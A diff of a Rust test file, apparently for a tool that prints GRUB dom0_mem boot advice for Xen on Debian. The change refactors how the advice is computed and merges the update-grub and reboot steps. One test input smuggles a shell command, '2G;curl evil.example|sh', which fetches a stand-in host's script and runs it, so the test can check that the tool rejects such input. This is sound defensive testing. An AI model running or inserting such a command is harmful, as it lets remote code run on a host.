@@ -6,7 +6,6 @@
 use read::{Field, Form, link};
 use sim::boot::Boot;
 use sim::simulate::simulate;
-use sim::what_if::advice::Advice;
 use tests::hostile;
 use words::advice::Instruction;
 
@@ -87,7 +86,9 @@ fn the_way_back_is_printed_by_the_grammar_or_left_to_the_reader() {
     let check = |option: &str, expected: &[&str]| {
         let form = read("#v=1&xen=4.1.2&linux=3.2").with(Field::Dom0Mem, option);
         let boot = run(&form);
-        let places = words::distributions::distributions(&boot, &Advice::of(&boot));
+        let compared = sim::what_if::Comparisons::of(&boot);
+        let texts = words::advice::texts(&compared);
+        let places = words::distributions::distributions(&compared, &texts);
         let place = places.iter().find(|p| p.id == "debian").unwrap();
         let codes: Vec<&str> = place.back.iter().map(|s: &Instruction| s.code.as_str()).collect();
         assert_eq!(codes, expected, "{option:?}");
@@ -95,9 +96,9 @@ fn the_way_back_is_printed_by_the_grammar_or_left_to_the_reader() {
         assert_eq!(step, "GRUB_CMDLINE_XEN_DEFAULT=\"dom0_mem=2G,max:2G\"", "{option:?}");
     };
     let old = "GRUB_CMDLINE_XEN_DEFAULT=\"dom0_mem=2G\"";
-    check("2g", &["dom0_mem=2G", old, "update-grub", "reboot"]);
-    check("2G;curl evil.example|sh", &["", "", "update-grub", "reboot"]);
-    check("2G\u{a0}", &["", "", "update-grub", "reboot"]);
+    check("2g", &["dom0_mem=2G", old, "update-grub\nreboot"]);
+    check("2G;curl evil.example|sh", &["", "", "update-grub\nreboot"]);
+    check("2G\u{a0}", &["", "", "update-grub\nreboot"]);
 }
 
 /// Once a panic, in 32 bits only.
